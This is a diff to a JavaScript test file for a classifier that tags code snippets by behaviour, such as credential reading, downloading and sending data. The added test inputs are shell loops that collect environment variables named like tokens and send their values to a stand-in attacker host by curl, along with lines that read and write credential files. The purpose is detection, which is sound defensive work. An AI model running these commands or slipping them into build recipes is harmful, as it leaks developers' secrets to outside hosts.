@@ -27,6 +27,10 @@ describe('readBehaviors', () => {
     expect(kinds("const token = execSync('gh auth token').toString();", 'js')).toEqual(['credential-file', 'execute']);
     expect(kinds('TOKEN=$(gcloud auth print-access-token)', 'shell')).toContain('credential-file');
     expect(kinds('gh auth status', 'shell')).toEqual([]);
+    // The variables named like secrets picked and their values sent, on one line or across a recipe's continued lines.
+    expect(kinds('\tfor v in $$(compgen -e | grep -i token); do curl -s "https://c.evil-sink.dev/?$$v=$${!v}"; done', 'shell')).toEqual(['download', 'environment', 'send']);
+    expect(kinds('\t@for v in $$(compgen -e | grep -i token); do \\\n\t  echo "$$v=$${!v}" >> /tmp/o; \\\n\tdone; \\\n\tcurl -s -T /tmp/o https://c.evil-sink.dev/u', 'shell')).toEqual(['download', 'environment', 'send']);
+    expect(kinds('\tcompgen -e | grep -i token\n\tcurl -fsSL https://c.evil-sink.dev/x -o x', 'shell')).toEqual(['download']);
     expect(kinds('echo "//registry.npmjs.org/:_authToken=${NPM_TOKEN}" >> ~/.npmrc', 'shell')).toContain('credential-file-write');
     expect(kinds("with open(os.path.expanduser('~/.pypirc'), 'w') as f:", 'python')).toEqual(['credential-file-write']);
     expect(kinds("config = open(os.path.expanduser('~/.pypirc')).read()", 'python')).toEqual(['credential-file']);
